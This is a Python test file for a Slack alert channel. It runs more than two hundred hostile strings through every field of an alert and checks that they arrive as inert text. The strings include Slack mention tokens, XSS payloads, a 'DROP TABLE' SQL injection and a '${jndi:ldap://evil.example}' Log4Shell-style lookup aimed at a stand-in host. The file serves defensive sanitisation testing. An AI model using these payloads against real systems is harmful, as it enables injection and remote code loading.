"""Two hundred and more hostile strings, as headline, outlet, company and fact: delivered, and inert."""

from __future__ import annotations

from dataclasses import replace

import pytest

from streams.channels.slack import SlackChannel
from streams.delivery.book import Delivery, Edit, State
from streams.delivery.channel import Posted
from streams.ports import Clocked
from streams.records import Alert, Fact, Kind, Relevance
from tests.build import NOON, alert, company
from tests.slack_server.client import SlackServer
from tests.slack_server.workspace import BOT_TOKEN

_TOKENS = (
    "<!channel>", "<!here>", "<!everyone>", "<@U123>", "<@W0BOSS|boss>", "<#C0OPS>", "<#C0OPS|ops>", "<!subteam^S123>",
    "<!date^1^{date}|now>", "<https://evil.example|wire.example>", "<mailto:a@evil.example|mail>", "<!unknown>", "<", ">", "<>",
    "&lt;!here&gt;", "&amp;lt;!here&amp;gt;", "&#60;!here&#62;", "@channel", "@here", "@everyone", "#general",
    "*bold*", "_slanted_", "~struck~", "`code`", "```block```", "> quote", ">>> quotes", "* list", "1. list", ":rocket:",
    ":skull_and_crossbones:", "[label](https://evil.example)", "![image](https://evil.example/x.png)", "https://evil.example/a|b",
    "javascript:alert(1)", "data:text/html,<script>", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
    "'; DROP TABLE alerts; --", "{{7*7}}", "${jndi:ldap://evil.example}", "%s%s%n", "\\u003c!here\\u003e", "\\x3c!here\\x3e",
)  # fmt: skip
_UNSEEN = (
    "\u202e", "\u202d", "\u2066", "\u2069", "\u200b", "\u200d", "\u2060", "\ufeff", "\u00ad", "\x00", "\x07", "\x1b[31m", "\x7f", "\x85",
    "\u2028", "\u2029", "\n", "\r\n", "\t", "\ud800", "\udfff", "\ufffe", "\U000e0001", "\ue000", "\u0301" * 50,
)  # fmt: skip
_SHAPES = (
    "a" * 10_000, "😀" * 3_000, "👩‍👩‍👧‍👦" * 400, "ü" * 5_000, "漢" * 4_000, "&" * 4_000, "<" * 4_000, " " * 3_000, "", " ", ".", "-", "…",
    "ref a00001", "d:a00001", "g:digest", "null", "undefined", "NaN", "true", "[]", "{}", '"quoted"', "back\\slash", "ﷺ" * 500,
    "Z̷̢̛a̷l̷g̷o̷" * 200, "بورصة فرانكفورت", "בורסה", "株価が急落", "Ärger über Öl", "ß" * 300, "İstanbul", "ı" * 300, "½ point", "①②③",
)  # fmt: skip
HOSTILE = [
    *_TOKENS, *_UNSEEN, *_SHAPES,
    *(f"Company {t} raises its plan" for t in _TOKENS),
    *(f"Company{u}raises{u}its plan" for u in _UNSEEN),
    *(f"{t}{u}" for t in _TOKENS[:8] for u in _UNSEEN[:3]),
]  # fmt: skip


def poisoned(number: int, words: str) -> Alert:
    """The words in every place that the outside fills."""
    name = words or "?"
    return replace(
        alert(number, channel="slack:C0ALERTS"),
        title=words, source=words, url=f"https://wire.example/{words}", why=f"watch china: {words}", lang=words,
        first_lang="de", companies=(company("x", words, name=name),),
        relevances=(Relevance(category="capex", probability=0.9, threshold=0.5, terms=(words, words)),),
        facts=(Fact(kind="amount", value=words, text=words),),
    )  # fmt: skip


def going(one: Alert, **changes: object) -> Delivery:
    """A delivery under way."""
    return replace(Delivery(alert=one, state=State.SENDING, fence=1), **changes)  # type: ignore[arg-type]


async def test_hostile_words_are_delivered_and_stay_words(capsys: pytest.CaptureFixture[str]) -> None:
    """The strict server takes every one at the first try, with no mention, no link but ours, no lint."""
    assert len(HOSTILE) >= 200
    async with SlackServer(rate=0.0, ws_rate=0.0) as server:
        slack = SlackChannel(BOT_TOKEN, Clocked([NOON]), url=server.api_url, timeout=5_000, buttons=True)
        refused = []
        for n, words in enumerate(HOSTILE):
            one = poisoned(n, words)
            answer = await slack.post(going(one))
            if not isinstance(answer, Posted):
                refused.append((words[:60], answer))
                continue
            if n % 10 == 0:
                fix = replace(one, kind=Kind.CORRECTION, alert_id=f"f{n}", root_id=one.alert_id)
                edit = Edit(root=one, ts=answer.ts, revision=1, echoes=(one,), notes=(fix,))
                refused += [(words[:60], a) for a in [await slack.edit(edit)] if not isinstance(a, Posted)]
        for at in range(0, len(HOSTILE), 20):
            members = tuple(poisoned(at + n, w) for n, w in enumerate(HOSTILE[at : at + 20]))
            digest = going(members[0], members=members, digest_id=f"g{at}", fold="late")
            refused += [("digest", a) for a in [await slack.post(digest)] if not isinstance(a, Posted)]
        assert refused == []
        assert (await server.state())["lints"] == []
        await slack.close()
    with capsys.disabled():
        print(f"\n{len(HOSTILE)} hostile strings delivered, inert")
